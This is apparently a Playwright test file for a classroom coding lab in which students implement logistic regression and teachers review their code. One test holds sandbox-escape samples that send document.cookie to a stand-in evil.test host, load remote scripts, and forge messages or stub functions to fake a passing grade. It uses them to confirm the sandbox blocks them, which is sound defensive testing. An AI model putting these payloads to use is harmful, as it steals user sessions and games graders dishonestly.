import { expect, type Page, test } from "@playwright/test";
import { createClass, joinAsStudent, screenshot, signUpTeacher } from "./support";

const CORRECT = `function sigmoid(z) {
  return 1 / (1 + Math.exp(-z));
}
function predictProba(X, w, b) {
  return X.map((row) => sigmoid(row[0] * w[0] + row[1] * w[1] + b));
}
function logLoss(y, yPred) {
  const eps = 1e-15;
  let sum = 0;
  for (let i = 0; i < y.length; i++) {
    const p = Math.min(Math.max(yPred[i], eps), 1 - eps);
    sum += y[i] * Math.log(p) + (1 - y[i]) * Math.log(1 - p);
  }
  return -sum / y.length;
}
function computeGradients(X, y, yPred) {
  const N = y.length;
  const dw = [0, 0];
  let db = 0;
  for (let i = 0; i < N; i++) {
    const r = yPred[i] - y[i];
    dw[0] += r * X[i][0];
    dw[1] += r * X[i][1];
    db += r;
  }
  return { dw: [dw[0] / N, dw[1] / N], db: db / N };
}
function train(X, y, lr, iterations) {
  let w = [0, 0];
  let b = 0;
  const losses = [];
  for (let i = 0; i < iterations; i++) {
    const yPred = predictProba(X, w, b);
    const { dw, db } = computeGradients(X, y, yPred);
    w = [w[0] - lr * dw[0], w[1] - lr * dw[1]];
    b -= lr * db;
    losses.push(logLoss(y, predictProba(X, w, b)));
  }
  return { w, b, losses };
}
`;

const SIGN_ERROR = CORRECT.replace("const r = yPred[i] - y[i];", "const r = y[i] - yPred[i];");

const ESCAPE_ATTEMPTS = `const tried = [];
try { fetch("https://evil.test/steal?c=" + document.cookie); } catch (e) { tried.push("fetch"); }
try { importScripts("https://evil.test/x.js"); } catch (e) { tried.push("importScripts"); }
try { self.postMessage({ pass: true }); } catch (e) { tried.push("postMessage"); }
try { Object.getPrototypeOf(self).postMessage.call(self, { type: "outputs", nonce: "guess", outputs: [] }); } catch (e) { tried.push("proto"); }
try { (() => {}).constructor("return fetch")()("https://evil.test/ctor"); } catch (e) { tried.push("ctor"); }
try { new XMLHttpRequest(); } catch (e) { tried.push("xhr"); }
try { setTimeout("fetch('https://evil.test/t')", 0); } catch (e) { tried.push("timeout"); }
function sigmoid(z) { return 0.5; }
function train() { return { pass: true, passed: true }; }
`;

async function typeCode(page: Page, code: string) {
  const editor = page.getByRole("textbox", { name: "Code editor" });
  await editor.click();
  await page.keyboard.press("ControlOrMeta+A");
  await page.keyboard.press("Delete");
  await page.keyboard.insertText(code);
}

async function run(page: Page) {
  await page.getByRole("button", { name: "Run checks" }).click();
}

test("a student implements logistic regression in the lab, the teacher sees it", async ({ browser }) => {
  const errors: string[] = [];
  const teacher = await signUpTeacher(browser, errors);
  const code = await createClass(teacher.page, "Lab class");
  const { page } = await joinAsStudent(browser, code, "Ada", errors);

  await page.goto("/lab/cats-or-dogs");
  await expect(
    page.getByRole("heading", { name: "Implement logistic regression from scratch" }),
  ).toBeVisible();
  await expect(page.getByText("def compute_gradients(X, y, y_pred):")).toBeVisible();
  await expect(page.getByRole("status", { name: "Objective progress" })).toContainText("Not yet");
  await screenshot(page, "lab-starter");

  // A sign error in the gradient: the gradient check fails with a hint, the others pass.
  await typeCode(page, SIGN_ERROR);
  await run(page);
  const checks = page.getByRole("list", { name: "Check results" });
  await expect(
    checks.getByRole("listitem", { name: "computeGradients: shape and values: failed" }),
  ).toContainText("opposite sign");
  await expect(checks.getByRole("listitem", { name: "sigmoid(0) = 0.5: passed" })).toBeVisible();
  await expect(checks.getByRole("listitem", { name: /Training loop .*: failed/ })).toContainText("uphill");
  await expect(page.getByText("6 of 8 checks pass.")).toBeVisible();
  await screenshot(page, "lab-buggy");

  // The correct solution passes every check and completes the objective.
  await typeCode(page, CORRECT);
  await run(page);
  await expect(page.getByText("8 of 8 checks pass.")).toBeVisible();
  await expect(page.getByText("All checks pass")).toBeVisible();
  await expect(page.getByRole("status", { name: "Objective progress" })).toContainText("Completed");
  await expect(page.getByRole("heading", { name: "Your loss curve" })).toBeVisible();
  await expect(page.getByRole("heading", { name: "Your decision boundary" })).toBeVisible();
  await page.waitForTimeout(500);
  await screenshot(page, "lab-passed");

  // The draft is saved: a reload brings the code back.
  await typeCode(page, `// keep going\n${CORRECT}`);
  await expect(page.getByText("Unsaved changes…")).toBeVisible();
  await expect(page.getByText("Draft saved")).toBeVisible();
  await page.reload();
  await expect(page.getByText("// keep going")).toBeVisible();
  await expect(page.getByRole("button", { name: "Restore last passing version" })).toBeVisible();

  // The teacher sees the status and reads the code.
  await teacher.page.reload();
  const card = teacher.page.getByRole("table", { name: "Coding lab" });
  await expect(card.getByRole("row", { name: /Ada/ })).toContainText("Passed");
  await card.getByRole("button", { name: "View Ada's code" }).click();
  const readOnly = teacher.page.getByRole("textbox", { name: "Ada's code (read-only)" });
  await expect(readOnly).toContainText("// keep going");
  await expect(readOnly).toHaveAttribute("contenteditable", "false");
  await teacher.page.getByRole("heading", { name: "Coding lab" }).scrollIntoViewIfNeeded();
  await screenshot(teacher.page, "lab-teacher");
  expect(errors).toEqual([]);
});

test("an infinite loop is stopped and escape attempts cannot fake a pass", async ({ browser }) => {
  const errors: string[] = [];
  const teacher = await signUpTeacher(browser, errors);
  const code = await createClass(teacher.page, "Sandbox class");
  const { page } = await joinAsStudent(browser, code, "Eve", errors);
  const requests: string[] = [];
  page.context().on("request", (request) => requests.push(request.url()));
  await page.goto("/lab/cats-or-dogs");
  await expect(page.getByRole("textbox", { name: "Code editor" })).toBeVisible();

  await typeCode(page, "function sigmoid(z) { while (true) {} }\n");
  const started = Date.now();
  await run(page);
  await expect(
    page
      .getByRole("alert")
      .filter({ hasText: "Your code ran for more than 3 s — is there an infinite loop?" }),
  ).toBeVisible({ timeout: 8000 });
  expect(Date.now() - started).toBeLessThan(6000);
  await screenshot(page, "lab-infinite-loop");
  // The page stays usable: the next run works.
  await expect(page.getByRole("button", { name: "Run checks" })).toBeEnabled();

  await typeCode(page, ESCAPE_ATTEMPTS);
  await run(page);
  const checks = page.getByRole("list", { name: "Check results" });
  await expect(checks.getByRole("listitem", { name: "sigmoid(0) = 0.5: passed" })).toBeVisible();
  await expect(checks.getByRole("listitem", { name: /Training loop .*: failed/ })).toBeVisible();
  await expect(page.getByText("1 of 8 checks pass.")).toBeVisible();
  await expect(page.getByText("All checks pass")).toHaveCount(0);
  await expect(page.getByRole("status", { name: "Objective progress" })).toContainText("Not yet");
  await screenshot(page, "lab-escape");
  expect(requests.filter((url) => url.includes("evil.test"))).toEqual([]);

  // TypeScript: annotations are stripped in the browser before the sandbox runs the code.
  await page.getByRole("radio", { name: "TypeScript" }).check();
  await typeCode(page, "function sigmoid(z: number): number {\n  return 1 / (1 + Math.exp(-z));\n}\n");
  await run(page);
  await expect(checks.getByRole("listitem", { name: "sigmoid on random z: passed" })).toBeVisible();
  await expect(checks.getByRole("listitem", { name: "sigmoid saturates without NaN: passed" })).toBeVisible();
  expect(await page.title()).toContain("Coding lab");
  expect(errors).toEqual([]);
});
